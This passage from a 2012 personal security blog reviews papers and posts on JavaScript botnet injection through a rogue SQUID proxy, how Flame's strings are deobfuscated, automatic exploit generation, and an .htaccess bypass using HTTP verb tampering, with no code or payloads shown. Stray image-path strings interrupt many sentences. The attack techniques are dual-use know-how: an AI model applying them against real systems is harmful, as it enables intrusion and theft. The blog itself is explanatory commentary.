  10. Documentation, documentation and... (Try to guess... ) documentation! Is your only true weapon to speed up thelearning process and enable a fast context change. I know, when you reached a result, such as a tool for testing a specific system, a 0day or a new injection status you think to be wasting time writing documentation. But is not like that... And you know that. So remember each time you should write docs, that is almost valuable as the task you have just concluded.

If you have to manage a penetration testing group, I hope it might be helpful. Let me know, anycomment is appreciated

Wednesday, September 5, 2012

Yes, we all are immortals...

Today I'd like to share a nice article on immortality written by Marcelo Gleiser. I know it's quite a bit out of topic for my blog, but it is worthy. The article presents a great theory on immortality based on Internet. I extracted few sentences to sum up the theory :

[...] Apart from gene transmission — not very satisfying from an emotional perspective and diluted with every generation — we could say that you existed so long as someone remembered you.
That's not true any more. Something of you now exists so long as electrons course through the wires of any person's computer in the world. It's quite a thought to recognize that we have a new kind of immortality to share. It should raise our collective awareness of how we'd want to be remembered. The words and pictures will remain, long after we are gone, for anyone who cares to look for them. [...]

Hope you enjoy it as I did. It made me think about how the immorality concept has radically changed during the past decade and with it all the life has been changing since the information became shared.

Friday, August17, 2012

Raising Risk Awareness on the Adoption of Web 2.0 Technologies in Decision Making Processes

Today I'd like to share a paper that Marco Prandini and I wrote on the use of Web2.0 in decision making process. The paper can be found here on the Journal of Future Internet.

Abstract: In the recent past, the so-called “Web 2.0” became a powerful tool for decision making processes. Politicians and managers, seeking to improve participation, embraced this technology as if it simply were a new, enhanced version of the World Wide Web, better suited to retrieve information, opinions and feedbacks from the general public on subjects like laws, acts and policies. This approach was often naive, neglecting the less-obvious aspects of the technology, and thus bringing on significant security problems. This paper shows how, in the end, the result could easily be the opposite of what was desired. Malicious attackers, in fact, could quite easily exploit the vulnerabilities in these systems to hijack the process and lead to wrong decisions, also causing the public to lose trust in the systems themselves.


Web 2.0 is for sure a great opportunity and an amazing paradigm that could be very useful for politicians or decison makers in the more broad way. However web 2.0, as described in e paper, could be verydangerous if used to attack a decision chain. The paper describes and gives examples on how a possible attacker could attack current political decisions by exploiting simple and well known Web 2.0 bugs. I recommend this reading to all of you involved in politics and/ord decision making, in addition to everybody who works for government agencies.

Tuesday, August 7, 2012

JavaScript and Botnets

After an entire period of time busy in traveling and moving to a new city I am finally back on my blog. Not sure abut the frequency of my future posts but still very interested on keeping on posting my working topic ;). Probably I'll be able to post a little bit more from now... Most of you are already aware about the DevCon 2012 and its new topics on security, so I won't spend time on this discussion, but I do want pointing out an interesting technical paper presented by Chema Alonso and Manu"The Sur" titled :" Owing Bad Guys {& Mafia} with JavaScript Botnets".

The paper describes how attackers, by exploiting TOR networks and public available proxies, can intercept user's traffic, and injecting malicious JavaScript to exploit users' browsers. The technique per-se is well known from years and the framework they used to load malicious payloads (BeeF) is already widely used around the hacking community. So what's so interesting about this paper if it does not introduce any new concept? I found really interesting the analysis on the users they had. in other words who is using public available proxies and TOR networks.

Let's take a deeper view of it. The following image shows the general idea about the implemented attack on a proxy server (BTW they setup a SQUID proxy and the registered it on public proxy registries).

SQUID server has the property to modify traffic following specific roles. Originally these roles have been designed for parent control and for blocking some specific domains, but it can be used under a malicious perspective to injectmalicious JavaScript on downloads pages. The authors used a poison script to inject malicious JavaScript. Following the infection:

Again I don't see any interesting technique in this. BUT I do see the beauty of this study in capturing the "stakeholders". If you follow on reading thepaper, authors show who used this proxy and what he did with it. Obviously most of the performed operations by exploiting the free (and hacked) proxy were with malicious intents. One of the most interesting proves that authors provided is about Scam and people who answered back by giving personal informations.

Most of the stakeholders come from Ex-URS, Brasil and USA. Many of them from Cina, only few of them from Europe. Beside normal stats on where users come from, understandings how malicious hackers use proxies to attack is really interesting. Another little but significative theoric brick could be added to all the knowledge we had from honey-net project.


Friday, June 22, 2012

Computer Security: Training and Education

Today I want to spend a little bit of time pointing out an important concept of computer security: the Education. I want literally cite the Security and Privacy's Guest Editors' introduction on what is education, what is the difference between training and education and why is so important on computer security .

As technology creators, providers, and users, we must answer significant questions to address these problems, for example:

How can we help individuals be good cybercitizens ? In particular, how can we give them a clear understanding of both cybersecurity issues and how their personal choices affect cybersecurity?

Can building an effective cyberworkforce help users understand their responsibilities online and with computer-based technologies ?


Some People are still thinking on why computer security is such an importanttopic, or why there is the need of having security online, or even worst, people who say they "don't believe on computer security" (whatever it means)... Well , I believe this Guest Ednitor's introduction should be a mandatory readying for every student and even for every "security skeptical " around theglobe. It explains by using simple concepts and practical examples why computer security is such an important topic in the current world and why security education is even more important since could affect citizen behaviors.


Another great lesson comes from the distinction between education and training. Training refers to learning concrete skills for meeting specific, real-life goals in a clearly understood situation. By contrast, education focuses on understanding and knowledge, learners can associate principles and concepts, apply them to solve a variety of new problems, and evaluate those solutions' effectiveness .

This is another huge and quite delicate topic: training, often represented by privatecompanies and private sectors VS educating, often represented by Universities and the entire academic world . Those two entities often in totally disagreement between them, share one of the most important topic related to computer security.

I do finally suggest this reading, even if it's not a technical one it offers great cornerstones to fully understand security education and security training: when they should occur, when and where one is the most useful an when and where the other one is needed.


Saturday, June 2, 2012

A great analysis post on Flame string encryption

Hi folks,

It's quite a long time since last post, I am sorry about that. I am in the middle of a quite long traveling period, so forgive me to slowing down a little bit my security posts. Today I d like to share an interesting Post written by "Spider Labs Anterior " regarding the string deobfuscator using IDAPython.

Yes, it is on Flame too.. I wouldn't write about Flame since everybody out here is talking about it, plus I had no time to personal analyze it, so unfortunately I have nothing to add to the enormous flock of posts on it :) (BTW this paper is high recommended ).

The author, Josh Grunzweig, shows his path to find out theobfuscating technique used in Flame. I think it is worth to keep in mind because perfect to didactic purposes. From IDA graph he reproduced the following code. Every analyst should do this step!! I often miss it and try to solve by patching the code or by pencil and paper, but doing in this way will save a lot of time in long term analysis. I collect his main analysis following.

The function above is taking the obfuscated String as a parameter, and checking the sixteenth byte to determine if it is null. This byte is acting as a Boolean value to tell the function if the String has already been decoded. In the event that this byte is not set to null, or 0x00, another function is called, and the sixteenth byteis set to 0x00. Finally, the result of String that was initially supplied as a variable, with an offset of +20, is returned. If I were a betting man, I’d suspect that the second function (named ‘deobfuscate() in the above Ruby code) is manipulating the data somehow. In order to find out, let’s investigate what is going on. If we look above, we can see that this new function is supplied two arguments—The 'obfuscated_string' variable with an offset of +20, as well as the eighteenth byte in 'obfuscated_string'. So thisfunction appears to call a third function (last one I promise), and proceeds to subtract the resulting number from the specific character in the string before replacing it. So if we were looking at the first byte (0xA7), and the third function returned 0x82, we would get the following:0xA7 – 0x82 = 0x25 (“%”)

Great job Josh and thank you for sharing it !

Monday, May 14, 2012

Automatic Exploit Generation: a Provocative Post

Today I went trough a very interesting paper written by Thanassis Avgerinos, Sang Kil Cha, Brent Lim Tze Hao and David Brumley from Carnegie Mellon University titled: "AEG: Automatic Exploit Generation". The paper describes a technique and an implementation of an automatic engine able to generate exploits from source code and binaries. AEG has been introduced in NDSS 2011 and it is really amazing :D

From the Abstract:
We used AEG to analyze 14 open-source projects and successfully generated 16 control flow hijacking exploits. Two of the generated exploits (expect-5.43 and htget-0.93) are zero-day exploits against unknown vulnerabilities. Our contributions are: 1) we show how exploit generation for control flow hijack attacks can be modeled as a formal verification problem, 2) we propose preconditioned symbolic execution, a novel technique for targeting symbolic execution, 3) we present a general approach for generating working exploits once a bug isfound, and 4) we build the first end-to-end system that automatically finds vulnerabilities and generates exploits that produce a shell.

The following picture shows the way the authors designed their Automated Exploit Generation system.

Te system performs both analyses: Static analysis on source code and Dynamic analysis during the runtime execution. It then generates an automated exploit and it verifies it before resulting it as output. Following,  an astonishing video proving the reality of the AEG system.

Now, I've never tried AEG, I cannot say that it really works or what are the limits it has got, but I would be very interesting in  reviewing it. It seems that it might really change everything into the security world.

On one hand I am alittle bit scared about it for two main reasons: (a) it could be used from good guys as well as from bad guys. And bad guys with this powerful tool could act very badly. I know, this is like many other theories and tools in computer security... Even my book could be used from bad guys to learn how to exploit systems right ? My worries here is about the usability. it seems to be pretty "user friendly"and really effective too. Plus it covers almost all areas in the software exploiting process that everybodycould use it and be very effective. And (b) AEG rises a serious question: do the security professionals really need to exist anymore ? ( I am very provocative )I know, AEG is probably a very Beta tool, but what will happen once it will be tested and ready to be used ?

Let 's just analyze what happened during the past decade to computer security experts. At the beginning of the computer security era, only few people were able to compromise systems, it was considered something like a gift.  Then it become an Art, I remember the magic book of Matt Bishop, Computer Security: Art and Science which fixed basic concepts of what computer security was and what penetration testing was going to happen.  Only few skilled people were able to practice such an Art because it was hard to study and difficult to learn such low level techniques. Later on it became a discipline, with tools, weak theories and wide documentation on how to attack or to exploit systems... few scholars were able to exploit systems.  Finally it become a Science thanks to Methodologies that made the Exploit process reproducible over time, basically everybody with a strong technical background and passion for the computer security can learn how to compromise it. Now.... is it becoming an automatism ?

AEG seems to be a perfect tool to automate the full stack exploiting process, from analysis to exploiting. The question is the most obvious one:  Do we still need penetrator testers, and vulnerability hunters ? )Or it is going to be enough an automatic tool ? (I am provocative deliberately )

Is the exploiting process becoming  quick and easy as running an automated tool ? If this is going to happen what will happen to the computer security scientists/expert/engineers ? Anther question, maybe the most importantone ... if a software able to discover most of the possible vulnerabilities is going to be available what about the "Computer Security Science" ?  Will it be science yet ? Or will it become a simple Technique ? Or even an Automatism ?

Following the exploiting process steps I see :

Gift (few rare persons able to exploit) -- Art  (few very skilled people able to exploit) --  Craft  (books, tools, and tutorials. Few scholars and very motivated people able to exploit)  --  Science (reproducible, basically everybody with strong technical background could be able to exploit) -- Automatism (everybody, or even nobody, there is no need of having people able to exploit, one automata will do it for everybody)

Tuesday, May 1, 2012Plaid CTF results

I am so proud about our security group, made by the most talented hacking students in the university of Bologna. CeSeNA ( Cesena Security, Network and Applications ) is the official name of the security team I used to lead, but when those students compete in hacking contests the official name jumps to ANeSeC ! CeSeNA for security and ANeSeC for hacking purposes.

The past weekend ANeSeC participated to a quite known hacking contest: the plaid CTF. 720 teams from 82 different countries. We were 42th (and first Italian team) !! Not bad at all considering some "key elements" were not playing !! Good job CeSeNA-ti I am so proud !!


Friday, April 27, 2012

Bypassing .htaccess by using GETS

Hi folks, during these days I am traveling a lot for job, and unfortunately I don't have much time to write posts. Hovewer today I wanna share a really nice post about a classic problem affecting the HTTP basic authentication method in PHP applications. The post ( written by armoredcode ) is about a 2 years old bug described by Owasp in 2010 (here) , by cd34 (here) and by Eguaj (here, which btw, explained with lot of details). I'd like so much this post because is not about vulnerability (which is very known, even if very spread over websites) but is about the whole hacking process, from scratch. Pablo Perego wrote a very detailed process and very deep considerations that drive the reader to a full understanding of what the problem is. Following the images of the fundamental steps taken from armoredcode. First a HTTP request with empty body.

And then the request forthe backed page.


Again a great place to start to look into the hacking reality and a good example of simple vulnerability exploiting process .

Following the main followed steps:

